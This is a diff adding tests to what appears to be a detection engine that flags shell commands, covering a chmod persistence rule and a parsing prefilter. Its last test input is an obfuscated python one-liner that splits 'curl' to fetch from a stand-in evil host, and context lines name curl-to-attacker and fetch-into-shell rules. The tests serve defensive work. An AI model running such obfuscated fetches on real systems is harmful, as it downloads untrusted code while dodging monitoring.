@@ -340,3 +340,31 @@ def test_a_reading_that_used_an_earlier_file_is_not_reused():
     assert _rules(eng, runs, sandbox="a") == ["curl_to_evil", "fetched_into_shell"]
     assert _rules(eng, runs, sandbox="c") == ["curl_to_evil"]
     assert eng.reused == 0
+
+
+def test_a_rule_on_chmod_has_needles_and_still_runs_on_file_events_named_chmod():
+    loader = Loader()
+    loader.add_text(textwrap.dedent("""
+        - rule: bin_chmod
+          title: chmod under /usr/local/bin
+          category: persistence
+          severity: medium
+          condition: cmd.name = chmod and cmd.args startswith /usr/local/bin/
+    """), "chmod.yaml")
+    eng = Engine(loader.build())
+    assert eng.rules[0].needles is not None  # chmod is a program in the texts that are searched
+    assert _rules(eng, "make -C /usr/local/bin/src") == [] and eng.parsed == 0
+    assert _rules(eng, "chmod 755 /usr/local/bin/x") == ["bin_chmod"]
+    found = eng.analyze(from_dict({"kind": "file", "ts": 1, "path": "/usr/local/bin/x", "op": "chmod"}))
+    assert [f.rule for f in found] == ["bin_chmod"]
+
+
+def test_an_option_named_like_a_decoder_or_a_quoted_dot_makes_nothing_read():
+    eng = prefilter_engine()
+    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s\\n'") == []  # its escape makes it read
+    assert eng.parsed == 1
+    assert _rules(eng, "find /var/log -name '*.log' -printf '%p %s'") == []
+    assert _rules(eng, "cut -d'.' -f1 names.txt") == []
+    assert eng.parsed == 1
+    assert _rules(eng, "printf '%s' https://ok.example/") == [] and eng.parsed == 2  # the program printf is read
+    assert _rules(eng, """python3 -c 'import os; os.system("cu"+"rl https://evil.example/x")'""") == ["curl_to_evil"]
